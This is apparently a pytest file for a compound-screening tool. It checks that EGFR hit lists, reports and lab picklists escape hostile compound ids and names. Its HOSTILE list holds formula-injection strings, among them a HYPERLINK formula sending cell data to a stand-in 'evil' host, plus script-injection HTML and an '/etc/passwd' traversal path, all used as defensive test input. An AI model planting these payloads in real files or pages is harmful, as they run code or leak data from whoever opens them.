"""A whole run with hostile ids and names: every file tells the same of the same compounds.

The shipped models rank measured EGFR inhibitors among approved drugs. Ids, names and a vendor's
column are formulas, markup, paths, quotes, line breaks and signs that turn the direction of
writing. Every check reads what lies in the run's folder, as a reader of it would.
"""

import csv
import json
import re
import shutil
import subprocess
import sys
import zlib
from base64 import b64decode
from hashlib import sha256
from pathlib import Path
from typing import NamedTuple

import openpyxl
import pandas as pd
import pytest
from distributed import Client
from openpyxl.utils.escape import unescape
from rdkit import Chem

from screening.objective.screen_file import dump_screen, hash_screen, load_screen
from screening.objective.screen_settings import Screen
from screening.runs.past_run import open_run
from screening.runs.plan import plan_run
from screening.runs.rerank import check_rerank, rank_again
from screening.runs.run import run_screen
from screening.text.cells import unescape_cell
from tests.screening.office import NO_OFFICE, OFFICE, count_live

ROOT = Path(__file__).parents[3]
PROGRAM = Path(sys.executable).with_name("hitlist")
HOSTILE = [
    *("=1+1", '=HYPERLINK("http://x","y")', "@SUM(A1:A9)", "+1", "-1", "\t=1+1", "tab\tstop"),
    *("\rreturn", "a\r\nb", "two\nlines", "'=1+1", "''quoted", "\uff1d1+1", "  =blanks before"),
    *("<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "&lt;b&gt;"),
    *("<r>raw</r>", "../../etc/passwd", "C:\\temp\\x", 'say "x", twice', "a,b;c", "007"),
    *("0012345678901234567", "1E5", "NA", "nan", "TRUE", "2-3", "MAR1", "\u202eright to left"),
    *("zero\u200bwidth", "Ünïcode-β", "\U0001f9ea", "_x000D_", "$$$$", ">  <score>"),
    *("{{ 7 * 7 }}", "  padded  ", "x;=1+1;", 'a;=HYPERLINK("http://evil/"&A1);', "\0=1+1"),
    *("b\t=1+1\tc", "d|=1+1|e", "f\n=1+1", 'g;"=1+1&"', "\x0b\x1b;\x01=1+1;", "h,=1+1,", "\u2400"),
]
"""Ids of as many inhibitors; the name of each is the id of the one before it."""
OWN_IDS = 8
"""Inhibitors that keep the ids under which they were measured."""
HITS = len(HOSTILE) + OWN_IDS + 13
"""All these inhibitors and some drugs."""
POTENT = 8.6
"""Predicted pActivity that only some of the inhibitors have."""
FILES = {
    *("hits.csv", "hits.xlsx", "hits.sdf", "columns.csv", "report.html", "screen.toml"),
    *("rejects.csv", "duplicates.csv", "manifest.json", "where.json"),
    *("lab/order.csv", "lab/plates.csv", "lab/source_plates.csv"),
    *("lab/picklist.csv", "lab/picklist_echo.csv"),
}
Cells = list[dict[str, str]]


class Record(NamedTuple):
    """One record of the library."""

    compound_id: str
    name: str
    smiles: str
    measured: tuple[str, float] | None = None
    """Of an inhibitor: the id and pActivity that the activity model's bundle keeps of it."""


class Runs(NamedTuple):
    """A library, and three runs over it."""

    library: list[Record]
    folders: dict[str, Path]
    """``whole``; ``fewer`` and ``none`` rank it again with a filter that takes most, or all."""
    said: str
    """By the command line, of the one without hits."""


def inhibitors(number: int) -> list[tuple[str, str, float]]:
    """Id, SMILES and pActivity of the compounds that were measured to be most potent on EGFR."""
    table = pd.read_parquet(ROOT / "gnn/bundles/activity/measured.parquet")
    table = table.explode(["task", "relation", "value"]).query("task == 'EGFR' & relation == '='")
    table = table.assign(value=table["value"].astype(float)).drop_duplicates("smiles")
    potent = table.sort_values(["value", "id"], ascending=[False, True])
    rows = potent.head(number)[["id", "smiles", "value"]].itertuples(index=False)
    return [(one, smiles, value) for one, smiles, value in rows]


def make_library() -> list[Record]:
    """Drugs, then inhibitors, then records that are rejected and a repeat."""
    with (ROOT / "tests/files/chem/approved_sample.smi").open(newline="") as file:
        drugs = list(csv.DictReader(file, delimiter="\t"))
    records = [Record(drug["chembl_id"], drug["pref_name"], drug["smiles"]) for drug in drugs]
    for at, (one, smiles, value) in enumerate(inhibitors(len(HOSTILE) + OWN_IDS)):
        who = (HOSTILE[at], HOSTILE[at - 1]) if at < len(HOSTILE) else (one, "")
        records.append(Record(*who, smiles, (one, value)))
    records += [Record(one, "", "not\na molecule") for one in HOSTILE]
    return [*records, Record("=same", "@same", records[-len(HOSTILE) - 1].smiles)]


def objective(library: Path, **filters: float) -> Screen:
    return Screen.model_validate(
        {
            "name": "hostile",
            "title": "EGFR <b>&amp;</b> =1+1",
            "library": str(library),
            "bundles": ["activity", "toxicity"],
            "hits": HITS,
            "primary": [{"task": "activity_EGFR", "zero": 5.0, "full": 9.5, "weight": 4.0}],
            "off_targets": [{"task": "activity_AURKA"}],
            "liabilities": [{"task": "toxicity_herg", "zero": 1.0, "full": 0.3}],
            "windows": [{"property": "mw", "full_to": 650.0, "zero_above": 900.0}],
            "filters": filters,
        }
    )


@pytest.fixture(scope="module")
def runs(lone: Client, tmp_path_factory: pytest.TempPathFactory) -> Runs:
    folder = tmp_path_factory.mktemp("whole")
    records, library = make_library(), folder / "library.csv"
    with library.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(["compound_id", "smiles", "name", "=Note"])
        writer.writerows((one.compound_id, one.smiles, one.name, one.name) for one in records)
    folders = {name: folder / name for name in ("whole", "fewer", "none")}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HITLIST_CACHE", str(folder / "cache"))
        screen = objective(library, min_heavy_atoms=8.0)
        run_screen(plan_run(screen, folders["whole"], prepared=folder / "prepared"), lone)
        past = open_run(folders["whole"])
        screen = objective(library, min_heavy_atoms=8.0, min_activity_EGFR=POTENT)
        rank_again(past, check_rerank(past, screen, folders["fewer"]), folders["fewer"], lone)
        (folder / "none.toml").write_text(dump_screen(objective(library, min_mw=5000.0)))
        words: list[str | Path] = [
            "rank",
            "--run",
            folders["whole"],
            "--screen",
            folder / "none.toml",
        ]
        words += ["--out", folders["none"], "--workers", "1"]
        done = subprocess.run([PROGRAM, *words], capture_output=True, text=True, timeout=250)
    assert done.returncode == 0, done.stderr
    return Runs(records, folders, done.stderr)


@pytest.fixture(params=["whole", "fewer", "none"])
def folder(runs: Runs, request: pytest.FixtureRequest) -> Path:
    return runs.folders[request.param]


def read(path: Path) -> Cells:
    """A CSV file as it is stored, by Python's csv; pandas has to agree."""
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == rows
    return rows


def plain(path: Path, numbers: frozenset[str] = frozenset()) -> Cells:
    """A CSV file by its documented rule: one apostrophe comes off what a spreadsheet would run."""
    return [
        {
            unescape_cell(name): cell if unescape_cell(name) in numbers else unescape_cell(cell)
            for name, cell in row.items()
        }
        for row in read(path)
    ]


def numbers_of(folder: Path) -> frozenset[str]:
    """The columns that hold numbers, as the data dictionary has it."""
    defined = plain(folder / "columns.csv")
    return frozenset(one["column"] for one in defined if one["type"] != "text")


def hits_of(folder: Path) -> Cells:
    return plain(folder / "hits.csv", numbers_of(folder))


def one_line(text: str) -> str:
    """A text as an SD file holds it, which cannot hold every text."""
    line = " ".join(text.splitlines()).replace("$$$$", "$$$ $")
    line = "".join(chr(0x2400 + ord(c)) if c < " " and c != "\t" else c for c in line)
    return f" {line}" if line.startswith(">") else line


def test_every_file_is_there_and_is_what_the_manifest_names(folder: Path) -> None:
    found = {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
    found = {name for name in found if not name.startswith(("scores/", ".lock"))}
    plates = {name for name in found if re.fullmatch(r"lab/plate_\d+\.csv", name)}
    compared = {"changes.json"} if folder.name == "none" else set[str]()  # by the command
    assert found == FILES | plates | compared
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert set(manifest["files"]) == found - {"manifest.json", "where.json"}
    for name, digest in manifest["files"].items():
        assert sha256((folder / name).read_bytes()).hexdigest() == digest, name
    screen = load_screen(folder / "screen.toml")
    assert manifest["screen"]["sha256"] == hash_screen(screen)
    counts = manifest["counts"]
    assert counts["hits"] == len(hits_of(folder)) == min(counts["passed"], screen.hits)
    assert counts["rejected"] == len(read(folder / "rejects.csv"))
    assert counts["duplicates"] == len(read(folder / "duplicates.csv"))
    assert counts["scored"] == counts["passed"] + sum(manifest["filtered_by_filter"].values())


def test_hits_are_the_compounds_of_the_library_under_their_own_names(runs: Runs) -> None:
    hits = hits_of(runs.folders["whole"])
    assert {hit["compound_id"] for hit in hits} >= set(HOSTILE)
    for hit in hits:
        own = runs.library[int(hit["row"]) - 1]
        assert hit["compound_id"] == own.compound_id
        assert hit["name"] == hit["=Note"] == own.name
        assert hit["input_smiles"] == own.smiles
    assert [int(hit["rank"]) for hit in hits] == list(range(1, HITS + 1))
    scores = [float(hit["score"]) for hit in hits]
    assert scores == sorted(scores, reverse=True)


def test_a_measured_compound_is_its_own_nearest(runs: Runs) -> None:
    known = {one.compound_id: one.measured for one in runs.library if one.measured}
    found = [hit for hit in hits_of(runs.folders["whole"]) if hit["compound_id"] in known]
    assert len(found) == len(HOSTILE) + OWN_IDS
    for hit in found:
        name, value = known[hit["compound_id"]]
        assert (hit["nearest_EGFR_id"], hit["nearest_EGFR_smiles"]) == (name, hit["smiles"])
        assert hit["nearest_EGFR_similarity"] == "1.00"
        assert float(hit["nearest_EGFR_value"]) == pytest.approx(value, abs=0.0051)


def test_what_is_no_hit_keeps_its_name_too(runs: Runs, folder: Path) -> None:
    rejects = plain(folder / "rejects.csv")
    assert {row["compound_id"] for row in rejects} >= set(HOSTILE)
    repeats = plain(folder / "duplicates.csv")
    assert "=same" in {row["compound_id"] for row in repeats}
    for row in (*rejects, *repeats):
        own = runs.library[int(row["row"]) - 1]
        assert (row["compound_id"], row["input_smiles"]) == (own.compound_id, own.smiles)
    for row in repeats:
        first = runs.library[int(row["first_row"]) - 1]
        assert row["first_compound_id"] == first.compound_id


def test_the_workbook_has_the_same_cells(folder: Path) -> None:
    hits, numbers = hits_of(folder), numbers_of(folder)
    header, *rows = openpyxl.load_workbook(folder / "hits.xlsx")["hits"].iter_rows()
    defined = plain(folder / "columns.csv")
    assert [cell.value for cell in header] == [row["column"] for row in defined]
    for row, hit in zip(rows, hits, strict=True):
        for cell, (name, text) in zip(row, hit.items(), strict=True):
            if name in numbers and not text.startswith(("<", ">")) and text:
                assert (cell.data_type, cell.value) == ("n", float(text)), name
            else:
                assert cell.value is None or cell.data_type == "s"
                assert unescape(cell.value or "") == text


def test_the_sd_file_has_the_same_cells_and_structures(folder: Path) -> None:
    hits = hits_of(folder)
    found = list(Chem.SDMolSupplier(str(folder / "hits.sdf"))) if hits else []
    for mol, hit in zip(found, hits, strict=True):
        assert Chem.MolToSmiles(mol) == Chem.CanonSmiles(hit["smiles"])
        assert mol.GetProp("_Name") == one_line(hit["compound_id"])
        for name, text in hit.items():
            assert mol.GetProp(name) == one_line(text), name


def test_the_report_has_the_same_cells(folder: Path) -> None:
    hits = hits_of(folder)
    page = (folder / "report.html").read_text(encoding="utf-8")
    block = dict(re.findall(r'<script [^>]*id="(\w+)">(.*?)</script>', page, re.DOTALL))
    told = json.loads(block["data"])
    names = [column["name"] for column in told["columns"]]
    assert [dict(zip(names, row, strict=True)) for row in told["cells"]] == hits
    near = [[one["id"] for one in of[0]["near"]][:1] for of in told["neighbours"]]
    assert near == [[hit["nearest_EGFR_id"]] for hit in hits]
    drawn = json.loads(zlib.decompress(b64decode(block["pictures"])))
    for at, hit in zip(told["structure"], hits, strict=True):
        assert len(drawn[at]["atoms"]) == 2 * Chem.MolFromSmiles(hit["smiles"]).GetNumAtoms()
    assert ("No compound passed the filters" in page) == (not hits)


def test_the_lab_has_the_same_compounds_and_predictions(folder: Path) -> None:
    hits = {hit["rank"]: hit for hit in hits_of(folder)}
    orders = plain(folder / "lab/order.csv")
    wells = [well for well in plain(folder / "lab/plates.csv") if well["role"] == "sample"]
    stocks = [row for row in plain(folder / "lab/source_plates.csv") if row["rank"]]
    assert [row["rank"] for row in orders] == list(hits)
    for rows in (wells, stocks):
        assert sorted(row["rank"] for row in rows) == sorted(hits)
    for row in (*orders, *wells, *stocks):
        hit = hits[row["rank"]]
        assert (row["compound_id"], row["name"]) == (hit["compound_id"], hit["name"])
    for row in orders:
        hit = hits[row["rank"]]
        assert (row["=Note"], row["smiles"]) == (hit["=Note"], hit["smiles"])
    for well in wells:
        told = {name for name in well if name.startswith("predicted_")}
        assert "predicted_toxicity_herg" in told
        assert all(
            well[name] == hits[well["rank"]][name.removeprefix("predicted_")] for name in told
        )


def test_what_a_dispenser_takes_reaches_the_well_of_its_compound(folder: Path) -> None:
    stock = {(r["plate"], r["well"]): r["rank"] for r in read(folder / "lab/source_plates.csv")}
    well = {(r["plate"], r["well"]): r["rank"] for r in read(folder / "lab/plates.csv")}
    ranks = {hit["rank"] for hit in hits_of(folder)}
    generic = [
        (stock[row["source"], row["source_well"]], well[row["destination"], row["well"]])
        for row in read(folder / "lab/picklist.csv")
    ]
    assert sorted(pair for pair in generic if pair[0]) == sorted((rank, rank) for rank in ranks)
    told = [
        (row["Sample Name"], row["Destination Plate Name"], row["Destination Well"])
        for row in read(folder / "lab/picklist_echo.csv")
        if row["Sample Name"].startswith("hit_")
    ]
    found = {name: (plate, place[0] + place[1:].zfill(2)) for name, plate, place in told}
    assert found.keys() == {f"hit_{rank}" for rank in ranks}
    for name, place in found.items():
        assert f"hit_{well[place]}" == name


def test_fewer_hits_than_asked_are_the_same_hits(runs: Runs) -> None:
    whole, fewer = (hits_of(runs.folders[name]) for name in ("whole", "fewer"))
    manifest = json.loads((runs.folders["fewer"] / "manifest.json").read_text(encoding="utf-8"))
    assert 0 < len(fewer) < HITS
    assert manifest["filtered_by_filter"]["min_activity_EGFR"] > 0
    known = {hit["compound_id"]: hit for hit in whole}
    assert all(float(hit["activity_EGFR"]) >= POTENT for hit in fewer)
    both = [hit["compound_id"] for hit in fewer if hit["compound_id"] in known]
    assert both == [one for one in known if one in set(both)]
    assert len(both) > 5
    own = {"rank", "list_rank", "cluster"}  # of the list, not of the compound
    for hit in fewer:
        if hit["compound_id"] in known:
            first = known[hit["compound_id"]]
            assert all(hit[name] == first[name] for name in hit.keys() - own)


def test_no_hits_are_told_in_a_sentence(runs: Runs) -> None:
    assert hits_of(runs.folders["none"]) == []
    manifest = json.loads((runs.folders["none"] / "manifest.json").read_text(encoding="utf-8"))
    scored = manifest["counts"]["scored"]
    assert f"{HITS} hits requested; 0 of {scored} accepted compounds passed" in runs.said
    assert f"(min_mw removed {scored})" in runs.said


def one_kind_of_line_break(text: str) -> str:
    """A text as an office's cell holds it: it knows one kind."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.skipif(OFFICE is None, reason=NO_OFFICE)
def test_an_office_shows_ids_as_texts(runs: Runs, tmp_path: Path) -> None:
    """The workbook as it is opened, and the CSV file with its columns imported as text."""
    assert OFFICE is not None
    folder = runs.folders["whole"]
    hits, header = hits_of(folder), list(read(folder / "hits.csv")[0])
    texts = "/".join(f"{at}/2" for at in range(1, len(header) + 1))
    shutil.copy(folder / "hits.xlsx", tmp_path / "book.xlsx")
    out = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false"
    command: list[str | Path] = [
        OFFICE,
        "--headless",
        "--convert-to",
        out,
        "--outdir",
        tmp_path / "out",
    ]
    for name, given in (
        ("csv", [f"--infilter=CSV:44,34,76,1,{texts}", folder / "hits.csv"]),
        ("xlsx", [tmp_path / "book.xlsx"]),
    ):  # a profile each: the first office may still hold its own when the second starts
        profile = f"-env:UserInstallation={(tmp_path / name).as_uri()}"
        subprocess.run([*command, profile, *given], check=True, capture_output=True, timeout=120)
    for name, rule in (("hits", unescape_cell), ("book", str)):
        with (tmp_path / f"out/{name}.csv").open(encoding="utf-8", newline="") as file:
            shown = list(csv.DictReader(file))
        for row, hit in zip(shown, hits, strict=True):
            for column in ("compound_id", "name"):
                assert one_kind_of_line_break(rule(row[column])) == one_kind_of_line_break(
                    hit[column]
                )


@pytest.mark.slow
@pytest.mark.skipif(OFFICE is None, reason=NO_OFFICE)
@pytest.mark.parametrize("separators", ["44", "59", "9", "124", "44/59/9", "44/59/9/124"])
def test_no_text_becomes_a_formula_wherever_an_office_parts_cells(
    runs: Runs, separators: str, tmp_path: Path
) -> None:
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([at, text] for at, text in enumerate(HOSTILE))
    found = count_live([raw, *runs.folders["whole"].rglob("*.csv")], separators)
    assert found.pop(raw) > 0, "nothing would run"
    names = {path.name for path in found}
    assert names >= {"hits.csv", "rejects.csv", "duplicates.csv", "order.csv", "plates.csv"}
    assert set(found.values()) == {0}
